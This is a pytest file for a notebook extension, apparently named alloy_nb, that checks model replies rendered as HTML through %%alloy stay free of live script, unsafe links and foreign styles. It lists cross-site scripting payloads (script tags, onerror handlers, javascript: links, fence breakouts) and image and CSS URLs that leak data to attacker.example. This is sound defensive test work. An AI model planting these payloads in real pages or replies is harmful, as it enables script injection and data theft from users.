"""Replies that try to become live HTML, through %%alloy in every format, streamed and not.

Each published HTML bundle is parsed: only the elements and attributes alloy_nb itself writes may
appear, links only to http(s)/mailto, and no `text/markdown` (which JupyterLab would render
unsanitized for trusted output) is ever published.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from alloy_nb._views.reply import code_html, markdown_html
from alloy_nb._views.style import stylesheet
from alloy_nb.testing import ScriptedTurn as Reply

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    '<a href="javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "![x](https://attacker.example/leak.png?q=secret)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "````\n<img src=x onerror=alert(1)>\n````",
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    "- item\n  ```\n  code\n<img src=x onerror=alert(1)>",
    "<div>\n```\n<img src=x onerror=alert(1)>\n```\n</div>",
    "`<img src=x onerror=alert(1)>`",
    "\\`<img src=x onerror=alert(1)>`",
    "| a | b |\n|---|---|\n| <iframe src=x> | <b onmouseover=alert(1)>b</b> |",
]
ALLOWED_TAGS = {
    "p",
    "em",
    "strong",
    "code",
    "pre",
    "ul",
    "ol",
    "li",
    "a",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "blockquote",
    "hr",
    "br",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "s",
    "div",
    "sub",
    "iframe",
    "i",
    "details",
    "summary",
}
ALLOWED_ATTRIBUTES = {"href", "target", "rel", "class", "start", "sandbox", "srcdoc"}
OWN_STYLESHEET = stylesheet("reply")  # the one <style> a reply's view may carry: alloy_nb's rules, to the letter


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.styles: list[str] = []  # the text of each <style>
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))
        if tag == "style":
            self.styles.append("")
            self._in_style = True

    def handle_endtag(self, tag: str) -> None:
        self._in_style = self._in_style and tag != "style"

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.styles[-1] += data


def live_parts(markup: str) -> list[str]:
    """Every element, attribute or link in `markup` that could run, load or navigate somewhere unsafe."""
    parser = _Elements()
    parser.feed(markup)
    problems = []
    problems += [f"<style>{text[:60]}…" for text in parser.styles if text != OWN_STYLESHEET]
    for tag, attrs in parser.found:
        if tag not in ALLOWED_TAGS and tag != "style":
            problems.append(f"<{tag}>")
        problems += [f"<{tag} {name}>" for name in attrs if name not in ALLOWED_ATTRIBUTES]
        href = (attrs.get("href") or "https:").strip().lower()
        if not href.startswith(("https:", "http:", "mailto:")):
            problems.append(f"<{tag} href={href}>")
        if tag == "iframe" and attrs.get("sandbox") != "":
            problems.append("an iframe that is not fully sandboxed")
    return problems


@pytest.mark.parametrize("payload", PAYLOADS)
def test_rendered_markdown_and_code_have_nothing_live(payload: str) -> None:
    assert live_parts(markdown_html(payload)) == []
    assert live_parts(code_html(payload)) == []


def test_the_check_sees_a_style_that_is_not_alloy_nbs() -> None:
    assert live_parts(f"<style>{OWN_STYLESHEET}</style>") == []
    assert live_parts("<style>p{background:url(https://attacker.example/leak)}</style>") != []


def test_markdown_formatting_stays() -> None:
    rendered = markdown_html(
        "**bold** _em_ `a < b`\n\n- one\n- two\n\n| x |\n|---|\n| 1 |\n\n```py\nif a < b: pass\n```\n[site](https://ollama.com)"
    )
    for part in (
        "<strong>bold</strong>",
        "<em>em</em>",
        "<code>a &lt; b</code>",
        "<li>one</li>",
        "<td>1</td>",
        '<span class="hl-k">if</span> <span class="hl-n">a</span> <span class="hl-o">&lt;</span>',  # the py block, highlighted
        'href="https://ollama.com"',
    ):
        assert part in rendered


def test_code_drops_the_models_own_fence_and_cannot_be_broken_out_of() -> None:
    assert code_html("```python\nprint('<b>')\n```") == "<pre><code>print(&#x27;&lt;b&gt;&#x27;)</code></pre>"
    assert (
        code_html("````\n```\n</code></pre><script>\n````")
        == "<pre><code>```\n&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;</code></pre>"
    )


@pytest.mark.parametrize("fmt", ["markdown", "code", "html", "text", "json"])
@pytest.mark.parametrize("stream", [True, False])
def test_hostile_replies_through_alloy_cells(shell, server, fmt: str, stream: bool) -> None:
    for payload in PAYLOADS:
        server.script(Reply(chunks=[payload[: len(payload) // 2], payload[len(payload) // 2 :]]))
        flags = f"-f {fmt}" + ("" if stream else " --no-stream")
        assert shell.run_cell(f"%%alloy {flags}\nreply").success
        assert shell.user_ns["_alloy"] == payload
    outputs = shell.display_pub.outputs
    assert not any("text/markdown" in bundle for bundle in outputs)
    for bundle in outputs:
        assert live_parts(bundle.get("text/html", "")) == [], bundle
